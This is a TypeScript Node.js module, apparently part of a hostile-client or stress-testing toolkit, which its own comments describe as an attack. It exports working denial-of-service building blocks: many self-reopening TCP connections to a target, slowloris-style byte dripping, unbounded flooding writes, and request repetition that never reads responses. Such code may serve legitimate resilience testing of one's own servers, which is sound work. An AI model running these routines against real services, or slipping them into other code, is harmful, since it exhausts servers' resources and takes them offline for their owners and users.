/** Many connections of a hostile client, kept up for as long as an attack lasts. */
import { connect, type Socket } from 'node:net';

/** A server that ends connections is not asked for new ones faster than this, each. */
const REOPEN_MS = 100;

/** Where the attack goes, and when it ends. */
export interface Attack {
  readonly host: string;
  readonly port: number;
  readonly ended: AbortSignal;
}

/** Keeps a number of connections open; `behave` is called with each new one and its number. */
export function keepOpen({ host, port, ended }: Attack, count: number, behave: (socket: Socket, index: number) => void): void {
  function open(index: number): void {
    if (ended.aborted) return;
    const socket = connect({ host, port, allowHalfOpen: true });
    const end = () => socket.destroy();
    ended.addEventListener('abort', end);
    socket.on('error', () => undefined);
    socket.once('end', end);
    socket.once('close', () => {
      ended.removeEventListener('abort', end);
      setTimeout(open, REOPEN_MS, index);
    });
    socket.once('connect', () => behave(socket, index));
  }
  for (let index = 0; index < count; index++) open(index);
}

/** Writes a piece now and then, as long as the socket lives. */
export function drip(socket: Socket, everyMs: number, piece: () => string): void {
  const timer = setInterval(() => socket.write(piece()), everyMs);
  socket.once('close', () => clearInterval(timer));
}

/** Writes pieces without an end, as fast as the other side takes them. */
export function pour(socket: Socket, piece: () => string | Buffer): void {
  const more = () => {
    let takes = true;
    while (takes && !socket.destroyed) takes = socket.write(piece());
  };
  socket.on('drain', more);
  more();
}

/** Sends a request again whenever it has been answered, whatever the answer; the bytes must hold a whole one. */
export function repeat(socket: Socket, request: () => string | Buffer): void {
  let timer: NodeJS.Timeout | undefined;
  const send = () => socket.write(request());
  // An answer has come when nothing more does: an attacker does not read it.
  socket.on('data', () => {
    clearTimeout(timer);
    timer = setTimeout(send, 10);
  });
  socket.once('close', () => clearTimeout(timer));
  send();
}
